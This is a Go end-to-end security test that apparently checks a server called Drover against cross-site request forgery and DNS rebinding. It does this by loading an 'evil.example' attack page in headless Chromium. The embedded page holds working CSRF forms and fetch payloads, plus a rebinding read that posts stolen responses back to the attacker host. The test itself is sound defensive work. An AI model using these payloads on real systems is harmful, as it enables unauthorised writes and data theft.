package e2e

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// attackPage has a browser try to make HSM groups on the target, in the ways in which
// pages can: as plain text and as nothing in particular, which ask nobody before; as
// JSON and with PUT, which ask; by a form, also one of Drover's own pages; and at its own site's name, which was made
// to lead to the target meanwhile.
const attackPage = `<!doctype html><title>page</title>
<form id=f method=post enctype="text/plain" target=frame action="%[1]s/apis/smd/hsm/v2/groups"><input name='{"label":"byform","x":"' value='"}'></form>
<form id=g method=post target=other action="%[1]s/sessions/bos/any/cancel"></form>
<iframe name=frame></iframe><iframe name=other></iframe>
<script>
const path = "/apis/smd/hsm/v2/groups", group = l => JSON.stringify({label: l});
const tries = [
  () => fetch("%[1]s" + path, {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "text/plain"}, body: group("bytext")}),
  () => fetch("%[1]s" + path, {method: "POST", mode: "no-cors", credentials: "include", body: new Blob([group("bynothing")])}),
  () => fetch("%[1]s" + path, {method: "POST", headers: {"Content-Type": "application/json"}, body: group("byjson")}),
  () => fetch("%[1]s" + path + "/byput", {method: "PUT", headers: {"Content-Type": "application/json"}, body: group("byput")}),
  () => fetch(path, {method: "POST", headers: {"Content-Type": "application/json"}, body: group("byname")}),
  () => fetch(path).then(r => r.text()).then(t => fetch("/read", {method: "POST", body: t})),
];
(async () => {
  document.getElementById("f").submit();
  document.getElementById("g").submit();
  for (const one of tries) { try { await one() } catch (e) {} }
  await fetch("/done", {method: "POST"});
})();
</script>`

// attacker serves the page, as another site, and leads what the page asks of its own
// name on to the target, as a name does that was made to lead there.
func attacker(t *testing.T, target string) (page string, done <-chan struct{}, read *atomic.Value) {
	over, text := make(chan struct{}, 1), &atomic.Value{}
	at, err := url.Parse(target)
	if err != nil {
		t.Fatal(err)
	}
	led := &httputil.ReverseProxy{Rewrite: func(p *httputil.ProxyRequest) { p.SetURL(at); p.Out.Host = p.In.Host }}
	mux := http.NewServeMux()
	mux.Handle("/apis/", led)
	mux.HandleFunc("/{$}", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, attackPage, target)
	})
	mux.HandleFunc("POST /read", func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		text.Store(string(body))
	})
	mux.HandleFunc("POST /done", func(http.ResponseWriter, *http.Request) { over <- struct{}{} })
	s := httptest.NewServer(mux)
	t.Cleanup(s.Close)
	_, port, _ := net.SplitHostPort(s.Listener.Addr().String())
	return "http://evil.example:" + port, over, text
}

// visit has a real browser look at the page until that is done.
func visit(t *testing.T, chromium, page string, done <-chan struct{}) {
	t.Helper()
	browser := exec.Command(chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
		"--user-data-dir="+t.TempDir(), "--host-resolver-rules=MAP evil.example 127.0.0.1", "--no-proxy-server", page)
	var said strings.Builder
	browser.Stdout, browser.Stderr = &said, &said
	if err := browser.Start(); err != nil {
		t.Fatal(err)
	}
	defer browser.Wait()
	defer browser.Process.Kill()
	select {
	case <-done:
	case <-time.After(patience):
		t.Fatalf("the page was never done: %s", said.String())
	}
}

// A page of another site has a browser that reaches this server make nothing on it,
// and reads nothing of it, even where nobody is asked for a token.
func TestPagesOfOtherSitesChangeNothing(t *testing.T) {
	chromium := os.Getenv("CHROMIUM")
	if chromium == "" {
		t.Skip("make test-browser runs it")
	}
	// First that the page does what it can: to a server that takes everything.
	var naive atomic.Int64
	open := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			naive.Add(1)
		}
	}))
	defer open.Close()
	page, done, _ := attacker(t, open.URL)
	visit(t, chromium, page, done)
	if naive.Load() < 3 {
		t.Fatalf("the page had a browser make %d writes on a server that takes all; it tries nothing", naive.Load())
	}

	c := prepare(t, []string{"--auth", "none"})
	c.start()
	page, done, read := attacker(t, c.url())
	visit(t, chromium, page, done)
	resp, err := http.Get(c.url() + "/apis/smd/hsm/v2/groups")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	groups, err := io.ReadAll(resp.Body)
	if err != nil || strings.TrimSpace(string(groups)) != "[]" {
		t.Errorf("a page of another site made %s, %v", groups, err)
	}
	if text, _ := read.Load().(string); !strings.Contains(text, "no name of this server") {
		t.Errorf("a page whose name was made to lead here read %q", text)
	}
	c.eventually("a form of one of Drover's own pages is refused", func() bool {
		resp, err := http.Get(c.url() + "/apis/drover/v1/audit?outcome=denied")
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		denied, err := io.ReadAll(resp.Body)
		return err == nil && strings.Contains(string(denied), "/sessions/bos/any/cancel: a page of another site")
	})
}
